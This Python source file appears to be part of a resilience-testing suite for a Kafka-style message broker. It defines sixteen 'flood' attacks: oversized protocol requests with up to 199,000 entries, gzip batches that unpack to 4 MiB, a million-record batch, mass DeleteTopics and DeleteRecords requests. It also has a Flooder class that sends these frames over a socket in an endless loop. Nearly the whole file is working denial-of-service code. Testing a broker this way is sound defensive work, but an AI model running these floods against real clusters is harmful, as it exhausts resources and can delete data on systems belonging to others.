"""Attacks by requests of many names, as many as the node takes."""

import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any, NamedTuple, TypeVar

from crash.attacks.connection import connected, framed
from tailrace.protocol.messages.configs import DescribeConfigsRequest, DescribeConfigsResource
from tailrace.protocol.messages.consumer_groups import ConsumerGroupDescribeRequest
from tailrace.protocol.messages.fetch import FetchPartition, FetchRequest, FetchTopic
from tailrace.protocol.messages.groups import FindCoordinatorRequest
from tailrace.protocol.messages.list_offsets import (
    ListOffsetsPartition,
    ListOffsetsRequest,
    ListOffsetsTopic,
    OffsetForLeaderEpochRequest,
    OffsetForLeaderPartition,
    OffsetForLeaderTopic,
)
from tailrace.protocol.messages.metadata import (
    DescribeTopicPartitionsRequest,
    MetadataRequest,
    MetadataRequestTopic,
    TopicRequest,
)
from tailrace.protocol.messages.offsets import (
    OffsetCommitRequest,
    OffsetCommitRequestPartition,
    OffsetCommitRequestTopic,
    OffsetFetchRequest,
    OffsetFetchRequestGroup,
)
from tailrace.protocol.messages.produce import PartitionProduceData, ProduceRequest, TopicProduceData
from tailrace.protocol.messages.topics import (
    DeleteRecordsPartition,
    DeleteRecordsRequest,
    DeleteRecordsTopic,
    DeleteTopicsRequest,
    DeleteTopicState,
)
from tailrace.protocol.messages.transactions import AddPartitionsToTxnRequest, AddPartitionsToTxnTopic
from tailrace.protocol.records.compression import Codec
from tailrace.protocol.records.record import BatchBuilder

T = TypeVar("T")


class Flood(NamedTuple):
    """Requests of many names, as many as the node takes."""

    name: str
    request: Callable[[], Any]
    version: int
    reads_answers: bool = True


def many(count: int, element: Callable[[int], T]) -> tuple[T, ...]:
    return tuple(element(number) for number in range(count))


def lookups(count: int) -> ListOffsetsRequest:
    partitions = many(count, lambda number: ListOffsetsPartition(partition_index=number, timestamp=-1))
    return ListOffsetsRequest(replica_id=-1, topics=(ListOffsetsTopic(name="orders", partitions=partitions),))


def tagged(number: int) -> FetchPartition:
    """A partition whose tagged field keeps it from being one of many of one size."""
    return FetchPartition(partition=number, fetch_offset=0, partition_max_bytes=1, replica_directory_id=b"x" * 16)


def produced(batch: bytearray, count: int = 1) -> ProduceRequest:
    partitions = many(count, lambda _: PartitionProduceData(index=0, records=bytes(batch)))
    return ProduceRequest(
        acks=1, timeout_ms=1_000, topic_data=(TopicProduceData(name="orders", partition_data=partitions),)
    )


def refused_batch(records: int, value: bytes | None, codec: Codec) -> bytearray:
    """A batch of records that are too new for the topic: each is looked at, and none is stored."""
    builder, late_ms = BatchBuilder(codec=codec), int(time.time() + 86_400) * 1_000
    for _ in range(records):
        builder.append(late_ms, None, value)
    return builder.build()


MOST, COSTLY = 199_000, 19_900
"""Names of the largest requests, less some for what is around them."""
FEW_LOOKUPS = Flood("ListOffsets of 20,000 partitions", lambda: lookups(20_000), 7)
FLOODS = [
    FEW_LOOKUPS._replace(name="ListOffsets", request=lambda: lookups(MOST)),
    FEW_LOOKUPS._replace(name="ListOffsets, answers not read", request=lambda: lookups(MOST), reads_answers=False),
    Flood(
        "OffsetForLeaderEpoch",
        lambda: OffsetForLeaderEpochRequest(
            replica_id=-1,
            topics=(
                OffsetForLeaderTopic(
                    topic="orders",
                    partitions=many(MOST, lambda number: OffsetForLeaderPartition(partition=number, leader_epoch=0)),
                ),
            ),
        ),
        4,
    ),
    Flood(
        "Metadata",
        lambda: MetadataRequest(
            topics=many(MOST, lambda number: MetadataRequestTopic(name=f"m{number}")), allow_auto_topic_creation=False
        ),
        9,
    ),
    Flood(
        "DescribeTopicPartitions",
        lambda: DescribeTopicPartitionsRequest(
            topics=many(MOST, lambda number: TopicRequest(name=f"m{number}")), response_partition_limit=2_000
        ),
        0,
    ),
    Flood(
        "OffsetFetch of groups",
        lambda: OffsetFetchRequest(
            groups=many(MOST, lambda number: OffsetFetchRequestGroup(group_id=f"g{number}", topics=()))
        ),
        8,
    ),
    Flood(
        "OffsetCommit",
        lambda: OffsetCommitRequest(
            group_id="g",
            member_id="",
            topics=(
                OffsetCommitRequestTopic(
                    name="orders",
                    partitions=many(
                        MOST,
                        lambda number: OffsetCommitRequestPartition(
                            partition_index=number, committed_offset=1, committed_metadata=""
                        ),
                    ),
                ),
            ),
        ),
        8,
    ),
    Flood(
        "Produce of nothing",
        lambda: ProduceRequest(
            acks=-1,
            timeout_ms=1_000,
            topic_data=(
                TopicProduceData(
                    name="orders",
                    partition_data=many(MOST, lambda number: PartitionProduceData(index=number, records=None)),
                ),
            ),
        ),
        9,
    ),
    Flood(
        "Produce of 256 batches that unfold to 4 MiB",
        lambda: produced(refused_batch(1, bytes((4 << 20) - 100), Codec.GZIP), 256),
        9,
    ),
    Flood("Produce of a million records", lambda: produced(refused_batch(1_000_000, None, Codec.ZSTD)), 9),
    Flood(
        "Fetch with tagged fields",
        lambda: FetchRequest(
            max_wait_ms=0, min_bytes=0, topics=(FetchTopic(topic_id=b"x" * 16, partitions=many(MOST, tagged)),)
        ),
        17,
    ),
    Flood(
        "DescribeConfigs",
        lambda: DescribeConfigsRequest(
            resources=many(
                COSTLY,
                lambda number: DescribeConfigsResource(
                    resource_type=32, resource_name=f"g{number}", configuration_keys=None
                ),
            ),
            include_synonyms=True,
            include_documentation=True,
        ),
        4,
    ),
    Flood(
        "DeleteTopics",
        lambda: DeleteTopicsRequest(
            topics=many(COSTLY, lambda number: DeleteTopicState(name=f"m{number}")), timeout_ms=10_000
        ),
        6,
    ),
    Flood(
        "DeleteRecords",
        lambda: DeleteRecordsRequest(
            topics=(
                DeleteRecordsTopic(
                    name="orders",
                    partitions=many(
                        COSTLY, lambda number: DeleteRecordsPartition(partition_index=number + 1, offset=0)
                    ),
                ),
            ),
            timeout_ms=1_000,
        ),
        2,
    ),
    Flood(
        "ConsumerGroupDescribe",
        lambda: ConsumerGroupDescribeRequest(group_ids=many(COSTLY, lambda number: f"g{number}")),
        0,
    ),
    Flood(
        "FindCoordinator",
        lambda: FindCoordinatorRequest(key_type=0, coordinator_keys=many(COSTLY, lambda number: f"g{number}")),
        4,
    ),
    Flood(
        "AddPartitionsToTxn",
        lambda: AddPartitionsToTxnRequest(
            v3_and_below_transactional_id="t",
            v3_and_below_producer_id=1,
            v3_and_below_producer_epoch=0,
            v3_and_below_topics=(AddPartitionsToTxnTopic(name="orders", partitions=tuple(range(COSTLY))),),
        ),
        3,
    ),
]


class Flooder:
    """A connection, a thread that sends as much as the node takes, and a thread that takes the answers."""

    def __init__(self, address: str, flood: Flood) -> None:
        self._frame = framed(flood.request(), flood.version)
        self._socket = connected(address)
        self._threads = [threading.Thread(target=self._send)]
        if flood.reads_answers:
            self._threads.append(threading.Thread(target=self._receive))
        self.served = 0
        """The bytes that were answered, or sent if nothing is read."""
        self._reads = flood.reads_answers
        self._stops = threading.Event()

    def open(self) -> None:
        """Do nothing: there is no session."""

    def start(self) -> None:
        """Begin the attack."""
        for thread in self._threads:
            thread.start()

    def stop(self) -> None:
        """End the attack, and the connection."""
        self._stops.set()
        self._socket.shutdown(socket.SHUT_RDWR)
        for thread in self._threads:
            thread.join()
        self._socket.close()

    def _send(self) -> None:
        with self._ended_by_stop():
            while not self._stops.is_set():
                self._socket.sendall(self._frame)
                self.served += 0 if self._reads else len(self._frame)

    def _receive(self) -> None:
        with self._ended_by_stop():
            while piece := self._socket.recv(1 << 20):
                self.served += len(piece)

    @contextmanager
    def _ended_by_stop(self) -> Iterator[None]:
        try:
            yield
        except OSError:
            assert self._stops.is_set(), "the node has closed the connection"
